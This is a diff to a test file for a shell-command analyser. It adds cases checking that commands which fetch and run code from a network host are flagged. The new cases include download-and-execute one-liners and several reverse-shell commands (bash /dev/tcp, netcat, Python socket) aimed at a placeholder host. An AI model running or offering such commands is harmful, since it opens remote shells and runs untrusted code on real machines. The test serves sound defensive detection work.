@@ -123,6 +123,15 @@ describe('network', () => {
     ['wget https://a.example/x; chmod +x x; ./x', 'a.example'],
     ['curl https://a.example > x && source x', 'a.example'],
     ['curl https://a.example | tee x | sh', 'a.example'],
+    ['curl https://a.example | tee >(bash)', 'a.example'],
+    ['curl https://a.example -o /tmp/i && chmod +x /tmp/i && /tmp/i', 'a.example'],
+    ['bash -i >& /dev/tcp/a.example/9 0>&1', 'a.example'],
+    ['cat /tmp/f | sh -i 2>&1 | nc a.example 9 > /tmp/f', 'a.example'],
+    ['nc -e /bin/sh a.example 9', 'a.example'],
+    [
+      `python3 -c 'import socket,subprocess;s.connect(("a.example",9));subprocess.call(["/bin/sh","-i"])'`,
+      'a.example',
+    ],
   ])('%j runs what it fetched', (command, host) => {
     const [found] = effects(command, 'execute').filter((effect) => effect.from === 'network');
     expect(found?.host).toBe(host);
